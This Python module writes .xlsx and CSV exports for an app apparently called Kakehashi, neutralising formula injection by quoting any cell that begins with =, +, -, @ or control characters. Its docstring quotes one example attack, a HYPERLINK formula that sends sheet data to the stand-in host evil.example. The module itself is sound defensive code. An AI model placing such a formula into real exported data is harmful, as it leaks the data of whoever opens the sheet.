"""Writing the files people open in a spreadsheet program (.xlsx and CSV), so that no text someone typed into
Kakehashi — a duty's title, a name, a region — runs as a formula there (formula injection: a cell such as
`=HYPERLINK("http://evil.example/?x="&A1,"Click")` would send the sheet's data away when clicked)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

from openpyxl import Workbook
from openpyxl.styles import Alignment, NamedStyle
from openpyxl.worksheet.worksheet import Worksheet

# A spreadsheet program reads a cell starting with these as a formula (or strips them and then does).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value: object) -> object:
    """CSV has no cell types: an apostrophe before formula-like text makes the spreadsheet read it as text."""
    return "'" + value if isinstance(value, str) and formula_like(value) else value


def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
    """UTF-8 with a BOM, so that Excel opens the Japanese text as UTF-8."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([csv_text(value) for value in row] for row in rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def new_workbook(title: str | None = None) -> tuple[Workbook, Worksheet]:
    """A new workbook and its one sheet, named `title` (openpyxl's default name "Sheet" without one)."""
    book = Workbook()
    sheet = book.active
    # openpyxl types `active` as possibly empty or a chart sheet; a new workbook always opens on a worksheet.
    assert isinstance(sheet, Worksheet)
    if title is not None:
        sheet.title = title
    return book, sheet


# The look of a table's rows: text at the top of the cell, long text wrapped onto more lines.
BODY_STYLE = "Kakehashi body"
WRAPPED = Alignment(vertical="top", wrap_text=True)


def wrap_rows(sheet: Worksheet, first_row: int) -> None:
    """Every cell from `first_row` down top-aligned and wrapped, through one named style of the workbook: a
    style object per cell would be compared with every style so far (a board's month, 17,000 cells, took
    most of a second of CPU that way). A cell styled already (a heading within the rows) keeps its font and
    fill and is aligned the same."""
    book = sheet.parent
    assert book is not None  # a sheet made by a workbook (new_workbook, create_sheet) belongs to it
    if BODY_STYLE not in book.named_styles:
        book.add_named_style(NamedStyle(name=BODY_STYLE, alignment=WRAPPED))
    for cells in sheet.iter_rows(min_row=first_row):
        for cell in cells:
            if cell.has_style:
                cell.alignment = WRAPPED
            else:
                cell.style = BODY_STYLE


def workbook_bytes(book: Workbook) -> bytes:
    """The workbook saved, with every formula-like cell stored as a text cell: its text is kept exactly, and the
    quote prefix keeps Excel from turning it into a formula even when someone edits the cell."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if formula_like(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()
